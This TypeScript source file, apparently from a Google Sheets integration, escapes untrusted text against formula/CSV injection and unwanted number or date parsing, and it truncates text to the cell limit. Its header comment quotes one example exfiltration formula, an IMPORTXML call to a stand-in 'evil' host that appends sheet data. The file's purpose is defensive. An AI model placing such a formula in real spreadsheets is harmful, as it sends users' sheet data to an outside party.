/**
 * Safe cell values for text that came from outside (API answers, user input).
 *
 * Why: `Range.setValues` parses a string as if the user had typed it. Text beginning with `=`
 * becomes a formula (formula injection: a lead's headline `=IMPORTXML("https://evil/?"&A1)` would
 * send the sheet's data away), and `+`, `-`, `@` start formulas or parse surprises too. Sheets
 * skips leading whitespace before reading a number, so " -5" or "\t=1" is guarded the same way,
 * and tab / carriage return lead the OWASP list of CSV-injection starters. A leading apostrophe
 * makes Sheets keep the text literally and is not displayed. Text that Sheets would turn into a
 * number, a boolean or a date ("00123" postal codes, 19-digit ids, "TRUE", "Mar 2020", the
 * headcount "1-10") gets the apostrophe as well, so the spec's "numeric identifier as text" stays
 * text and keeps every digit; so does text that itself begins with an apostrophe, which Sheets
 * would otherwise swallow. Over-matching costs nothing: the apostrophe is never displayed.
 *
 * Values returned by a custom function are NOT parsed by Sheets (they show as they are, and an
 * apostrophe would be visible), so that target skips the apostrophe: `{ target: "customFunction" }`.
 *
 * A cell holds at most 50,000 characters: longer text is cut and ends with a visible marker that
 * says how long the full text was. Arrays and objects become compact JSON under the same rules, or,
 * for lists where asked, readable text (list-text.ts).
 */

import { listText } from "./list-text";
import type { ListStyle } from "./sheet-format";

/** Sheets' limit on the characters of one cell. */
export const CELL_CHAR_LIMIT = 50_000;

export type CellValue = string | number | boolean;

export interface CellOptions {
  /** Where the value lands: written by `Range.setValues` (default) or returned by a custom function. */
  target?: "range" | "customFunction";
  /** Lists as readable text ("Title at Company (2019 - 2023); ...") or as JSON (the default here). */
  lists?: ListStyle;
}

const FORMULA_START = /^[\s]*[=+\-@]|^[\t\r]/;
// The full-width and compatibility forms of the same signs (＝ ＋ － ＠, small ﹦ ﹢ ﹣ ﹫, super-
// and subscript ⁼ ⁺ ⁻ ₌ ₊ ₋, and the minus sign − they fold to): Sheets keeps them as text, but
// NFKC folds each to its ASCII sign, as Excel does when a Japanese or Chinese user's CSV export
// is opened there (CSV injection).
const FOLDS_TO_FORMULA_START = /^[=+\-@\u2212]/;
// Sheets takes a leading apostrophe as the "show literally" mark and hides it, so text that itself
// starts with one ("'Tis the season") needs a second.
const QUOTE_START = /^'/;
// What Sheets' input parser reads as a number (with grouping, decimals, exponent, percent, or a
// currency sign before or, as locales with a decimal comma write it, after: "12,5 €") or as a
// boolean. Over-matching only costs an invisible apostrophe.
const NUMBER_LIKE = /^\s*[$€£¥]?\s*\(?[+-]?(\d[\d,]*(\.\d*)?|\.\d+)(e[+-]?\d+)?\)?\s*[%$€£¥]?\s*$/i;
const BOOLEAN_LIKE = /^\s*(true|false)\s*$/i;
// Dates and times Sheets would turn into date values ("2024-01-15", "1/15/2024", "Mar 2020",
// "15 March 2020", "10:30", and the headcount "1-10" read as January 10): the API sends them as
// text (job_started_on, created_at, headcount_range), and text they stay, in the API's wording.
// A month name joined by a hyphen ("Sep-2023", "15-Sep-2023") is a date as well (PRODUCTION.md G8).
const MONTH = "(jan|feb|mar|apr|may|jun|jul|aug|sep|oct|nov|dec)[a-z]*\\.?";
const DATE_LIKE = new RegExp(
  [
    "^\\s*\\d{1,4}[-/.]\\d{1,4}([-/.]\\d{1,4})?(\\s|t|$)",
    `^\\s*${MONTH}[\\s,-]+\\d{1,4}`,
    `^\\s*\\d{1,2}[\\s-]+${MONTH}`,
    "^\\s*\\d{1,2}:\\d{2}",
  ].join("|"),
  "i",
);

// Error values Sheets makes of their typed names ("#N/A" from an API's placeholder is an error
// cell, which formulas that read it propagate).
const ERROR_LIKE = /^\s*#(n\/a|ref!|value!|div\/0!|name\?|num!|null!|error!|spill!|calc!|getting_data)\s*$/i;
// A whole number and a fraction ("1 1/2") is the number 1.5 to Sheets, and an hour with am/pm
// ("3pm", "11 a.m.") a time of day, like the forms DATE_LIKE lists.
const FRACTION_OR_HOUR = /^\s*[+-]?\d+\s+\d+\/\d+\s*$|^\s*\d{1,2}\s*[ap]\.?m\.?\s*$/i;

/** Whether the first character after any leading spaces folds to = + - @ (FOLDS_TO_FORMULA_START). */
function startsFoldedFormula(text: string): boolean {
  const first = text.trimStart().charAt(0);
  return first > "\u007f" && FOLDS_TO_FORMULA_START.test(first.normalize("NFKC"));
}

/** Would Sheets (or a spreadsheet reading its CSV export) read this text as something other than the same text? */
export function needsApostrophe(text: string): boolean {
  return (
    [FORMULA_START, QUOTE_START, NUMBER_LIKE, BOOLEAN_LIKE, DATE_LIKE, ERROR_LIKE, FRACTION_OR_HOUR].some(
      (pattern) => pattern.test(text),
    ) || startsFoldedFormula(text)
  );
}

/** Cuts text to `limit` characters including a marker that says it was cut and the full length. */
export function truncateText(text: string, limit = CELL_CHAR_LIMIT): string {
  if (text.length <= limit) return text;
  // Digits grouped by hand: the same text whatever locale the runtime has.
  const length = String(text.length).replace(/\B(?=(\d{3})+$)/g, ",");
  const marker = ` …[truncated: ${length} characters in full]`;
  let end = Math.max(0, limit - marker.length);
  // Never split a surrogate pair: a lone half would show as a broken character.
  const last = text.charCodeAt(end - 1);
  if (last >= 0xd800 && last <= 0xdbff) end -= 1;
  return text.slice(0, end) + marker;
}

/** Text as a cell shows it literally: apostrophe where Sheets would parse it, within the cell limit. */
export function safeText(text: string, options: CellOptions = {}): string {
  if (options.target === "customFunction") return truncateText(text);
  if (!needsApostrophe(text)) return truncateText(text);
  return `'${truncateText(text, CELL_CHAR_LIMIT - 1)}`;
}

/** Compact JSON of nested data; empty arrays and objects show as an empty cell. */
function toJsonText(value: object): string {
  if (Array.isArray(value) ? value.length === 0 : Object.keys(value).length === 0) return "";
  try {
    return JSON.stringify(value) ?? "";
  } catch {
    // Cycles or BigInt inside: not from JSON, but never let one value stop a whole write.
    return "[value that cannot be shown as JSON]";
  }
}

/** Any value as something a cell can hold, safe against formula injection. */
export function toCellValue(value: unknown, options: CellOptions = {}): CellValue {
  switch (typeof value) {
    case "number":
      // NaN and Infinity have no cell form; an empty cell says "no value" honestly.
      return Number.isFinite(value) ? value : "";
    case "boolean":
      return value;
    case "string":
      return safeText(value, options);
    case "bigint":
      return safeText(value.toString(), options);
    case "object":
      if (value === null) return "";
      if (value instanceof Date) return Number.isNaN(value.getTime()) ? "" : value.toISOString();
      if (Array.isArray(value) && options.lists === "readable") return safeText(listText(value), options);
      return safeText(toJsonText(value), options);
    default:
      // undefined, functions, symbols.
      return "";
  }
}
